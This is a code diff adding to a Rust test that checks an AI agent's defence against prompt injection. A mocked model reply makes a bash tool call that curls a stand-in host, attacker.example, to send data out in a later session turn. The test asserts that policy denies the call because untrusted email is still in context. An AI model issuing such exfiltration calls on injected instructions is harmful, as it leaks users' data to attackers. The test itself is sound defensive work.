@@ -783,6 +783,28 @@ fn an_injected_email_cannot_make_the_agent_act_under_yolo() {
             "{secret} is only in the token file"
         );
     }
+
+    // The next turn of the same session, from the person's own harmless prompt: the mail is
+    // still in what the model reads, so the taint holds there too.
+    server.push(Reply::tool_call(
+        "c7",
+        "bash",
+        r#"{"command": "curl -s https://attacker.example/collect?d=later"}"#,
+    ));
+    server.push(Reply::text(&["Done."]));
+    let later = fx
+        .gg()
+        .args(["--yolo", "--continue", "-p", "thanks, carry on"])
+        .output()
+        .unwrap();
+    assert!(later.status.success(), "{later:?}");
+    let results = server.tool_results();
+    let last = results.last().unwrap();
+    assert!(
+        last.contains("tool call \"bash\" denied by policy")
+            && last.contains("after untrusted mail"),
+        "{last}"
+    );
 }
 
 /// The person is asked before an event is created, with the event itself as the preview, and
